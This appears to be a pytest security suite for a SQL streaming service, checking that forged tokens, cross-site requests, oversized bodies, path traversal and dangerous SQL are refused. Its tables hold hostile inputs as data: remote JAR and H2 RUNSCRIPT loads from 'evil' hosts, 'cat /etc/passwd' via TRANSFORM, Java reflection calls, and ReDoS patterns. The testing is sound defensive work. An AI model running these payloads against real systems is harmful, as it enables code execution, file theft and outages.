"""What the service must not let in: each attempt is refused with the right status, and the engine never hears of it.

Requests go over a real connection to the real server; only the engine is a stand-in.
"""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator
from pathlib import Path

import pytest

from plait.server.addresses import Listening
from plait.server.allowance import Rate
from plait.server.limits import Limits
from plait.server.service import Rules, Service
from plait.sql.script.remote import Remote
from tests.served.asking import SQL, TOKEN, Asked, adding, ask, posting
from tests.served.stand_in import StandIn

JOIN = "FROM orders o JOIN items i ON o.id = i.id"
GOOD = f"CREATE QUERY q INTO noop AS SELECT o.id {JOIN}"
EVIL = ("Origin", "http://evil.example")
BEARER = ("Authorization", f"Bearer {TOKEN}")


class Running:
    def __init__(self, folder: Path, token: str | None, limits: Limits) -> None:
        (folder / "out").mkdir()
        (folder / "out" / "link").symlink_to("/etc")
        self.engine = StandIn("running")
        allowed = Remote(allowed_paths=(str(folder / "out"), "s3://ours/results"), base=str(folder))
        listening = Listening(host="127.0.0.1", port=0)
        self.service = Service(Rules(listening=listening, token=token, allowed=allowed, limits=limits))
        self.service.begin(self.engine)

    def refuses(self, asked: Asked, status: int, headers: tuple[tuple[str, str], ...] = ()) -> str:
        reply = ask(self.service.url, asked)
        assert reply.status == status, reply.body
        assert self.engine.held == {"running": None}
        well = ask(self.service.url, Asked(path="/status", headers=headers))
        assert (well.status, well.json["queries"]) == (200, ["running"])
        return reply.body.decode()


LIMITS = Limits(body_seconds=2.0, snapshot_seconds=0.0)


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    running = Running(tmp_path_factory.mktemp("open"), None, LIMITS)
    with running.service:
        yield running


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    patient = Limits(refusals=Rate(a_second=1000, at_once=1000))
    running = Running(tmp_path_factory.mktemp("guarded"), TOKEN, patient)
    with running.service:
        yield running


WITHOUT_TOKEN = {
    "no token": (Asked(), 401),
    "a wrong token": (Asked(headers=(("Authorization", "Bearer correct-horse-battery-staplf"),)), 401),
    "the beginning of the token": (Asked(headers=(("Authorization", f"Bearer {TOKEN[:-1]}"),)), 401),
    "an empty token": (Asked(headers=(("Authorization", "Bearer "),)), 401),
    "the token as a password": (
        Asked(headers=(("Authorization", "Basic " + base64.b64encode(f"plait:{TOKEN}".encode()).decode()),)),
        401,
    ),
    "the token under another scheme": (Asked(headers=(("Authorization", f"Basic {TOKEN}"),)), 401),
    "the token as a cookie": (Asked(headers=(("Cookie", f"token={TOKEN}"),)), 401),
    "the token beside a wrong one": (Asked(headers=(BEARER, ("Authorization", "Bearer x"))), 401),
    "the token in the URL": (Asked(path=f"/status?token={TOKEN}"), 400),
    "the token in the URL and where it belongs": (Asked(path=f"/status?x={TOKEN}", headers=(BEARER,)), 400),
    "the token in the path": (Asked(path=f"/queries/{TOKEN}"), 400),
    "the token escaped": (Asked(path=f"/status?token=%63{TOKEN[1:]}"), 400),
    "a query without a token": (posting(GOOD), 401),
    "dropping without a token": (Asked(method="DELETE", path="/queries/running"), 401),
    "events without a token": (Asked(path="/events"), 401),
    "metrics without a token": (Asked(path="/metrics"), 401),
    "the description without a token": (Asked(path="/openapi.json"), 401),
    "writing where the page is": (Asked(method="POST", path="/", body=b"x"), 401),
}


@pytest.mark.parametrize("attempt", WITHOUT_TOKEN)
def test_who_does_not_show_the_token_in_its_place_learns_and_changes_nothing(guarded: Running, attempt: str) -> None:
    asked, status = WITHOUT_TOKEN[attempt]
    told = guarded.refuses(asked, status, headers=(BEARER,))
    assert TOKEN not in told
    assert "running" not in told


FROM_ELSEWHERE = {
    "a foreign name that leads here": (Asked(host="evil.example"), 421),
    "a foreign name with our port": (Asked(host="evil.example:8040"), 421),
    "a name that begins like ours": (Asked(host="127.0.0.1.evil.example"), 421),
    "a name that begins like this machine's": (Asked(host="localhost.evil.example"), 421),
    "another machine's address": (Asked(host="192.0.2.1"), 421),
    "no host": (Asked(more=b"GET /status HTTP/1.0\r\n\r\n"), 421),
    "an odd host": (Asked(host="[::1"), 421),
    "two hosts": (Asked(more=b"GET /status HTTP/1.1\r\nHost: {own}\r\nHost: evil.example\r\n\r\n"), 400),
    "a page of another site that reads": (Asked(headers=(EVIL,)), 403),
    "a page of another site that listens": (Asked(path="/events", headers=(EVIL,)), 403),
    "a page of another site that adds": (posting(GOOD, headers=(SQL, EVIL)), 403),
    "a page of another site that drops": (Asked(method="DELETE", path="/queries/running", headers=(EVIL,)), 403),
    "a page from nowhere": (posting(GOOD, headers=(SQL, ("Origin", "null"))), 403),
    "a page of another port": (posting(GOOD, headers=(SQL, ("Origin", "http://127.0.0.1:1"))), 403),
    "a script that a page of another site loads": (Asked(headers=(("Sec-Fetch-Site", "cross-site"),)), 403),
    "a page of a neighbouring site": (Asked(headers=(("Sec-Fetch-Site", "same-site"),)), 403),
    "a form as text": (posting(GOOD, headers=(("Content-Type", "text/plain"),)), 415),
    "a form": (posting(GOOD, headers=(("Content-Type", "application/x-www-form-urlencoded"),)), 415),
    "a form with files": (posting(GOOD, headers=(("Content-Type", "multipart/form-data; boundary=x"),)), 415),
    "a body of no kind": (posting(GOOD, headers=()), 415),
    "asking whether one may": (Asked(method="OPTIONS", path="/queries", headers=(EVIL,)), 403),
    "a socket of a page of another site": (
        Asked(path="/events", headers=(EVIL, ("Connection", "Upgrade"), ("Upgrade", "websocket"))),
        403,
    ),
}


@pytest.mark.parametrize("attempt", FROM_ELSEWHERE)
def test_what_a_browser_is_sent_to_do_by_others_is_refused(opened: Running, attempt: str) -> None:
    opened.refuses(*FROM_ELSEWHERE[attempt])


def _chunks() -> bytes:
    head = (
        b"POST /queries HTTP/1.1\r\nHost: {own}\r\nContent-Type: application/sql\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    return head + (b"4000\r\n" + b" " * 0x4000 + b"\r\n") * 20


MISSHAPEN = {
    "a body that is too long": (posting(b" " * 300_000), 413),
    "a body that says it is long": (posting(b"", headers=(SQL, ("Content-Length", "99999999999"))), 413),
    "a body that goes on": (Asked(more=_chunks()), 413),
    "a body that is packed": (posting(gzip.compress(b" " * 10**7), headers=(SQL, ("Content-Encoding", "gzip"))), 415),
    "a body of a negative length": (posting(b"", headers=(SQL, ("Content-Length", "-1"))), 400),
    "a body of two lengths": (
        posting(GOOD, headers=(SQL, ("Content-Length", "5"), ("Content-Length", "70"))),
        400,
    ),
    "a body that never comes": (posting(b"SELECT", headers=(SQL, ("Content-Length", "1000"))), 408),
    "bytes that are no text": (posting(b"\xff\xfe"), 422),
    "a character of number 0": (posting(GOOD + "\0"), 422),
    "a head that is too long": (Asked(headers=(("X", "a" * 60_000),)), 431),
    "a header in a name": (Asked(path="/queries/a%0d%0aX-Evil:%201"), 404),
    "a path upwards": (Asked(path="/queries/..%2f..%2fetc%2fpasswd"), 404),
    "a path upwards in a file's place": (Asked(path="/../../etc/passwd"), 404),
    "no such format": (Asked(path="/plan?format=../../x"), 422),
    "a method that shows requests": (Asked(method="TRACE"), 405),
    "a method for others": (Asked(method="PUT", path="/queries", headers=(SQL,), body=b""), 405),
    "no HTTP": (Asked(more=b"\x16\x03\x01\x02\x00\x01\r\n\r\n"), 400),
}


@pytest.mark.parametrize("attempt", MISSHAPEN)
def test_what_is_too_much_or_no_request_is_refused(opened: Running, attempt: str) -> None:
    told = opened.refuses(*MISSHAPEN[attempt])
    assert "Traceback" not in told


def _into(sink: str) -> Asked:
    return adding(f"SELECT o.id {JOIN}", sink)


SINKS = {
    "a path elsewhere": (_into("parquet OPTIONS (path '/etc/cron.d')"), 403),
    "a path upwards": (_into("parquet OPTIONS (path 'out/../../x')"), 403),
    "a path that begins alike": (_into("parquet OPTIONS (path 'outside')"), 403),
    "a link to elsewhere": (_into("parquet OPTIONS (path 'out/link/x')"), 403),
    "a URI of a file": (_into("parquet OPTIONS (path 'file:///etc/x')"), 403),
    "a URI of a file that is allowed at first": (_into("json OPTIONS (path 'file:out/../../x')"), 403),
    "an escaped path": (_into("csv OPTIONS (path 'out/%2e%2e/%2e%2e/x')"), 403),
    "a pattern": (_into("parquet OPTIONS (path 'out/{a,b}')"), 403),
    "a bucket of others": (_into("parquet OPTIONS (path 's3://theirs/results/x')"), 403),
    "a bucket of others that is called like ours": (_into("parquet OPTIONS (path 's3://ours.evil/results/x')"), 403),
    "a path upwards in our bucket": (_into("parquet OPTIONS (path 's3://ours/results/../x')"), 403),
    "a user in a URI": (_into("parquet OPTIONS (path 's3://me@ours/results/x')"), 403),
    "a database": (_into("jdbc OPTIONS (url 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://evil''')"), 403),
    "a path that is a database": (_into("parquet OPTIONS (path 'jdbc:h2:mem:x')"), 403),
    "a broker": (_into("kafka OPTIONS (kafka.bootstrap.servers 'evil:9092', topic 't')"), 403),
    "the operator's screen": (_into("console"), 403),
    "the engine's memory": (_into("memory"), 403),
    "results of others": (_into("parquet OPTIONS (path 'out/x', existing 'overwrite')"), 403),
    "a class of a codec": (_into("csv OPTIONS (path 'out/x', compression 'com.evil.Codec')"), 422),
    "a class of Parquet's": (_into("parquet OPTIONS (path 'out/x', parquet.crypto.factory.class 'com.evil.F')"), 403),
    "a name that is a path": (adding(f"SELECT o.id {JOIN}", name="`../../x`"), 422),
}


@pytest.mark.parametrize("attempt", SINKS)
def test_results_go_nowhere_but_where_the_script_allows(opened: Running, attempt: str) -> None:
    opened.refuses(*SINKS[attempt])


def _selecting(expression: str) -> Asked:
    return adding(f"SELECT {expression} AS x {JOIN}")


STATEMENTS = {
    "dropping": (posting("DROP QUERY running"), 422),
    "setting": (posting("SET spark.sql.warehouse.dir = '/tmp'"), 422),
    "a stream of files": (posting("CREATE STREAM s (v STRING) USING text OPTIONS (path '/etc') TIMESTAMP BY v"), 422),
    "a table of files": (posting("CREATE TABLE s (v STRING) USING text OPTIONS (path '/etc/passwd')"), 422),
    "a view": (posting("CREATE VIEW v AS SELECT o.id FROM orders o"), 422),
    "two statements": (posting(f"{GOOD}; DROP QUERY running"), 422),
    "a statement in a comment's end": (posting(f"{GOOD} /* */; SET plait.allow_paths = '/'"), 422),
    "Spark's INSERT": (posting("INSERT OVERWRITE DIRECTORY '/tmp' USING csv SELECT 1"), 422),
    "Spark's ADD JAR": (posting("ADD JAR 'http://evil.example/x.jar'"), 422),
    "Spark's CREATE FUNCTION": (posting("CREATE FUNCTION f AS 'com.evil.F' USING JAR 'x.jar'"), 422),
    "Spark's EXECUTE IMMEDIATE": (posting("EXECUTE IMMEDIATE 'DROP TABLE x'"), 422),
    "nothing": (posting(""), 422),
    "a file in the place of a stream": (adding("SELECT f.value FROM text.`/etc/passwd` f"), 422),
    "a function in the place of a stream": (adding("SELECT f.id FROM range(1000000000) f"), 403),
    "a program in the place of a function": (
        adding("SELECT TRANSFORM (o.id) USING 'cat /etc/passwd' FROM orders o"),
        403,
    ),
    "a program in the place of a list": (adding("SELECT MAP o.id USING 'cat' FROM orders o"), 403),
    "a query within a query": (_selecting("(SELECT max(i.id) FROM items i)"), 422),
    "a stream that there is not": (adding("SELECT s.id FROM secrets s"), 422),
}


@pytest.mark.parametrize("attempt", STATEMENTS)
def test_no_statement_but_create_query_over_known_streams_gets_in(opened: Running, attempt: str) -> None:
    opened.refuses(*STATEMENTS[attempt])


CALLS = {
    "java_method": "java_method('java.lang.System', 'exit', 0)",
    "reflect": "reflect('java.lang.Runtime', 'getRuntime')",
    "reflect in other letters": "ReFlEcT('java.lang.Runtime', 'getRuntime')",
    "reflect in backquotes": "`reflect`('java.lang.Runtime', 'getRuntime')",
    "reflect behind a comment": "reflect/* */('java.lang.Runtime', 'getRuntime')",
    "reflect by its whole name": "system.builtin.reflect('java.lang.Runtime', 'getRuntime')",
    "reflect in a condition": "CASE WHEN try_reflect('java.lang.System', 'exit') = '' THEN 1 END",
    "a name that is put together": "IDENTIFIER('re' || 'flect')('java.lang.Runtime', 'getRuntime')",
    "a function of the session": "my_function(o.id)",
    "a file of descriptors": "from_protobuf(o.word, 'M', '/etc/passwd')",
    "entities of XML": "xpath_string(o.word, 'a')",
    "the name of the user": "current_user()",
    "the name of the user without parentheses": "current_user",
    "names of files": "input_file_name()",
    "a variable of the machine": "concat(o.word, '${env:HOME}')",
    "a variable of the machine in escapes": r"concat(o.word, '\u0024{env:HOME}')",
    "a setting without quotes": "${spark.app.id}",
    "a setting as a name": "o.id AS `${spark.app.id}`",
    "a text of any length": "repeat('x', 2000000000)",
    "a text of any width": "printf('%2000000000d', o.id)",
    "numbers without end": "sequence(1, 2000000000)",
    "an array of any length": "array_insert(array(1), 2000000000, 1)",
    "a failure on purpose": "raise_error('x')",
    "a pattern that explodes": "o.word RLIKE '^(a+)+$'",
    "a pattern that explodes by choices": "regexp_replace(o.word, '(a|aa)+$', '')",
    "a pattern that explodes by options": f"o.word REGEXP '{'a?' * 30}{'a' * 30}'",
    "a pattern that refers back": r"o.word RLIKE r'(.*)(.*)(.*)\1\2\3x'",
    "a pattern in pieces": "o.word RLIKE '(a+' || ')+$'",
    "a pattern in pieces side by side": "o.word RLIKE '(a+' ')+$'",
    "a pattern in parentheses and pieces": "o.word RLIKE ('(a+') || ')+$'",
    "a pattern from the data": "o.word RLIKE o.word",
    "a pattern as a function's": "regexp(o.word, '(a*)*b')",
    "a pattern to split by": "split(o.word, '(a*)*b')",
    "a pattern among several": "o.word LIKE ANY ('a%', '%a%b%c%d%e%f')",
    "a pattern of LIKE with many parts": "o.word LIKE '%a%b%c%d%e%'",
}


@pytest.mark.parametrize("attempt", CALLS)
def test_no_call_reaches_the_machine_or_takes_for_ever(opened: Running, attempt: str) -> None:
    told = opened.refuses(_selecting(CALLS[attempt]), 403)
    assert "not let in over the network" in told


@pytest.mark.parametrize(
    ("row", "status"),
    [
        ("reflect(%27java.lang.System%27,%27exit%27)=1", 403),
        ("o.word%20RLIKE%20%27(a%2B)%2B%24%27", 403),
        ("o.id=1);DROP%20QUERY%20running;--", 422),
        ("", 422),
        ("o.id=" + "1" * 3000, 422),
    ],
)
def test_a_question_about_a_row_may_not_say_more_than_a_query(opened: Running, row: str, status: int) -> None:
    opened.refuses(Asked(path=f"/queries/running/why?row={row}"), status)


def test_text_that_is_nested_deeper_than_anybody_writes_is_refused_at_once(opened: Running) -> None:
    opened.refuses(_selecting("(" * 2000 + "1" + ")" * 2000), 422)
    opened.refuses(_selecting("- " * 2500 + "1"), 422)
    opened.refuses(_selecting(" OR ".join(["o.id = 1"] * 2000)), 422)


def test_a_query_that_is_sound_gets_in(opened: Running) -> None:
    select = (
        "SELECT o.id, upper(o.word) AS word, CASE WHEN i.word RLIKE '^[a-z]+@[a-z.]+$' THEN 1 ELSE 0 END AS n "
        f"{JOIN} WHERE o.word LIKE 'a%' AND i.word NOT LIKE '%x' AND (o.id > 5 OR i.id IN (1, 2))"
    )
    reply = ask(opened.service.url, adding(select, "parquet OPTIONS (path 'out/q', compression 'snappy')", "sound"))
    assert (reply.status, reply.json["state"]) == (202, "waiting"), reply.body
    assert ask(opened.service.url, adding(select, name="sound")).status == 409
    dropped = ask(opened.service.url, Asked(method="DELETE", path="/queries/sound"))
    assert dropped.status == 202
    assert opened.engine.held == {"running": None}
